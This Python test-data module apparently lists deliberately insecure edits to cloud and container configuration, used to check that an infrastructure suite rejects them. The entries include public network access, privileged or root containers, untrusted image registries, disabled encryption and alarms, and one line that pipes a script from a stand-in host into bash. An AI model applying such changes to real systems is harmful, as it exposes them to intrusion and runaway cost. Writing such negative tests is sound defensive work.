"""More hostile changes: of the templates, and of the files beside them, where each is an edit of the text."""

from __future__ import annotations

from dataclasses import dataclass

from tests.infra.cloudformation.hostile_changes import CONTAINER, GONE, STATEMENT, Change

EVERYWHERE = "0.0.0.0/0"
STORE = "Properties/PolicyDocument/Statement"
LAUNCH = "workers/Template/Properties/LaunchTemplateData"

MORE_HOSTILE = [
    Change(
        "logs' service may write the key's policy",
        "storage/Key/Properties/KeyPolicy/Statement/1/Action/+",
        "kms:PutKeyPolicy",
    ),
    Change("logs of any account use the key", "storage/Key/Properties/KeyPolicy/Statement/1/Condition", GONE),
    Change("a key that goes with its stack, and the last snapshot with it", "storage/Key/DeletionPolicy", "Delete"),
    Change("a bucket that goes when it is replaced", "storage/Artifacts/UpdateReplacePolicy", "Delete"),
    Change(
        "access logs for the public",
        "storage/AccessLogs/Properties/PublicAccessBlockConfiguration/RestrictPublicBuckets",
        False,
    ),
    Change("old TLS to the bucket", "storage/ArtifactsPolicy/Properties/PolicyDocument/Statement/1", GONE),
    Change(
        "the registry keeps one image, and removes the one that runs",
        "storage/Repository/Properties/LifecyclePolicy/LifecyclePolicyText",
        '{"rules": [{"rulePriority": 1, "selection": {"tagStatus": "any", "countType": "imageCountMoreThan",'
        ' "countNumber": 1}, "action": {"type": "expire"}}]}',
    ),
    Change("images that nobody scans", "storage/Repository/Properties/ImageScanningConfiguration/ScanOnPush", False),
    Change("a log of a day", "control/Logs/Properties/RetentionInDays", 1),
    Change("a log in the clear", "control/Logs/Properties/KmsKeyId", GONE),
    Change("HTTPS from everywhere", "network/LoadBalancerFromNatA/Properties/CidrIp", EVERYWHERE),
    Change("a further zone without its NAT gateway", "network/PrivateDefaultRouteD/Properties/NatGatewayId", GONE),
    Change(
        "a further subnet on the public routes",
        "network/PrivateAssociationC/Properties/RouteTableId",
        {"Ref": "PublicRoutes"},
    ),
    Change("the database by another protocol", "network/DatabaseGroup/Properties/SecurityGroupIngress/0/FromPort", 0),
    Change("servers from any group", "network/ServerGroup/Properties/SecurityGroupIngress/0/CidrIp", EVERYWHERE),
    Change("tags of instances in their metadata", f"{LAUNCH}/MetadataOptions/InstanceMetadataTags", "enabled"),
    Change("an image that is not the agent's", f"{LAUNCH}/ImageId", "ami-0123456789abcdef0"),
    Change("instances that keep their disk", f"{LAUNCH}/BlockDeviceMappings/0/Ebs/DeleteOnTermination", False),
    Change("costs that no tag tells", f"{LAUNCH}/TagSpecifications/0/Tags", [{"Key": "Name", "Value": "x"}]),
    Change("instances of fifty dollars an hour", "workers/Parameters/GpuInstanceType/Default", "p5.48xlarge"),
    Change("ten thousand instances", "workers/Parameters/MaxGpuInstances/MaxValue", 10_000),
    Change(
        "a dispatcher that opens shells in tasks",
        f"workers/DispatcherRole/{STATEMENT}/3/Action/+",
        "ecs:ExecuteCommand",
    ),
    Change(
        "an instance that Systems Manager reaches",
        "workers/InstanceRole/Properties/Policies/+",
        {
            "PolicyName": "ssm",
            "PolicyDocument": {"Statement": [{"Effect": "Allow", "Action": "ssm:*", "Resource": "*"}]},
        },
    ),
    Change(
        "a role whose sessions have tags of their own",
        "workers/TaskRole/Properties/AssumeRolePolicyDocument/Statement/0/Action",
        ["sts:AssumeRole", "sts:TagSession"],
    ),
    Change("ready without a database", "control/PrefectTarget/Properties/HealthCheckPath", "/api/health"),
    Change("servers that migrate when they start", f"control/PrefectTask/{CONTAINER}/Environment/6/Value", "true"),
    Change("a task without limits of its rights", f"control/PrefectTask/{CONTAINER}/LinuxParameters", GONE),
    Change("a port for remote debugging", f"control/PrefectTask/{CONTAINER}/PortMappings/+", {"ContainerPort": 5678}),
    Change("a password among the outputs", "control/Outputs/Password", {"Value": {"Ref": "PrefectAuth"}}),
    Change("production that is never production", "control/Conditions/IsProd", {"Fn::Equals": ["a", "b"]}),
    Change("a budget that asks before it acts", "guardrails/BudgetAction/Properties/ApprovalModel", "MANUAL"),
    Change("a budget that acts too late", "guardrails/BudgetAction/Properties/ActionThreshold/Value", 10_000),
    Change("a budget that denies nothing", f"guardrails/NoNewGpuWork/{STORE}/0/Action", "ecs:DescribeTasks"),
    Change("a dead server that is no alarm", "guardrails/PrefectDown/Properties/TreatMissingData", "notBreaching"),
    Change("an alarm after a week", "guardrails/MlflowDown/Properties/EvaluationPeriods", 10_080),
    Change("a dispatcher that nobody misses", "guardrails/DispatcherDown/Properties/TreatMissingData", "ignore"),
    Change(
        "Prefect's password for a worker",
        f"control/CpuWorkerTask/{CONTAINER}/Secrets/0/ValueFrom",
        {"Fn::ImportValue": {"Fn::Sub": "${Project}-${Stage}-PrefectAuth"}},
    ),
]


@dataclass(frozen=True)
class Edit:
    """One edit of a file: the text that there is, and the text that an attacker would put there."""

    title: str
    path: str
    old: str
    new: str


COMPOSE = "infra/compose.yaml"
CPU, GPU = "infra/containers/Containerfile.cpu", "infra/containers/Containerfile.gpu"
ECS, K8S = "deployments/pools/ecs-gpu.json", "deployments/pools/k8s-gpu.json"
SERVER, WORKER = "infra/kubernetes/prefect-server.yaml", "infra/kubernetes/prefect-worker.yaml"

EDITS = [
    Edit("compose: a database of a stranger", COMPOSE, "docker.io/library/postgres:", "docker.io/stranger/postgres:"),
    Edit("compose: a proxy of a stranger's registry", COMPOSE, "docker.io/library/nginx:", "ghcr.io/x/nginx:"),
    Edit("compose: another user", COMPOSE, 'user: "999:999"', 'user: "1000:1000"'),
    Edit("compose: everything may be written", COMPOSE, "read_only: true", "read_only: false"),
    Edit("compose: power over the host", COMPOSE, "cap_drop: [ALL]", "cap_drop: [ALL]\n  privileged: true"),
    Edit("compose: S3 on every address", COMPOSE, '"127.0.0.1:${LIMBECK_S3_PORT', '"0.0.0.0:${LIMBECK_S3_PORT'),
    Edit("compose: workers beside the database", COMPOSE, "networks: [front]", "networks: [front, data]"),
    Edit("compose: the host's files", COMPOSE, "- postgres:/var/lib", "- /:/host\n      - postgres:/var/lib"),
    Edit("compose: an old hash of passwords", COMPOSE, "--auth-host=scram-sha-256", "--auth-host=md5"),
    Edit("compose: an empty password of Redis", COMPOSE, 'requirepass "%s"', 'requirepass ""'),
    Edit("compose: more processes than the host has", COMPOSE, "pids_limit: 1024", "pids_limit: -1"),
    Edit("compose: pickles", COMPOSE, 'ALLOW_PICKLE_DESERIALIZATION: "false"', 'ALLOW_PICKLE_DESERIALIZATION: "true"'),
    Edit("image: a base of a stranger", CPU, "docker.io/library/python:", "docker.io/stranger/python:"),
    Edit("image: packages of a stranger's index", GPU, "ENV PIP_", "ENV PIP_INDEX_URL=https://x.example PIP_"),
    Edit("image: torch of a stranger", CPU, "https://download.pytorch.org", "https://download.example"),
    Edit("image: a script of a stranger", CPU, "RUN useradd", "RUN curl -s https://x.example | bash && useradd"),
    Edit("image: root", GPU, "USER 10001:10001", "USER 0:0"),
    Edit("image: a bill of materials of another environment", CPU, "sbom.py /opt/limbeck", "sbom.py /opt/sbom"),
    Edit("image: what lies about goes in", f"{CPU}.dockerignore", "!tasks", "!tasks\n!.env"),
    Edit("database: everybody may connect", "infra/containers/databases.sh", "REVOKE ALL ON", "GRANT ALL ON"),
    Edit("proxy: metrics of a stranger", "infra/containers/nginx.conf", "http://metrics:9464", "http://x.example"),
    Edit("accounts: all may delete", "infra/containers/mlflow-auth.ini", "= EDIT", "= MANAGE"),
    Edit("ECS: a file system that a task may change", ECS, '"readonlyRootFilesystem": true', '"x": true'),
    Edit("ECS: privileged", ECS, '"stopTimeout": 110', '"stopTimeout": 110, "privileged": true'),
    Edit("ECS: a command of whoever starts a run", ECS, '"prefect flow-run execute"', '"{{ command }}"'),
    Edit("ECS: secrets as values", ECS, '"pattern": "^arn:"', '"pattern": ""'),
    Edit("ECS: any variable of the environment", ECS, "DO_NOT_TRACK|TOKENIZERS", "LD_PRELOAD|DO_NOT_TRACK|TOKENIZERS"),
    Edit("ECS: stages that hang for ever", ECS, '"LIMBECK_STAGE_HOURS": "24"', '"LIMBECK_STAGE_HOURS": "9999"'),
    Edit("Kubernetes: root", K8S, '"runAsNonRoot": true', '"runAsNonRoot": false'),
    Edit("Kubernetes: a token of the cluster", K8S, '"automountServiceAccountToken": false', '"hostNetwork": true'),
    Edit("Kubernetes: any image", K8S, "@sha256:[0-9a-f]{64}$", ".*"),
    Edit("Kubernetes: a folder of the node", K8S, '"emptyDir"', '"hostPath"'),
    Edit("chart: no password", SERVER, "enabled: true", "enabled: false"),
    Edit("chart: servers of a stranger", SERVER, "repository: prefecthq/prefect", "repository: stranger/prefect"),
    Edit("chart: rights of the host", SERVER, "drop: [ALL]", "add: [SYS_ADMIN]"),
    Edit("worker: root", "infra/kubernetes/cpu-worker.yaml", "runAsUser: 10001", "runAsUser: 0"),
    Edit("chart: a worker that makes its own pool", WORKER, "installPolicy: never", "installPolicy: always"),
    Edit("KServe: all of the cluster's rights", "infra/kubernetes/kserve.yaml", "limbeck-models", "cluster-admin"),
    Edit("alarms: one that never rings", "infra/monitoring/alarms.yml", " for: ", " for: 9"),
]
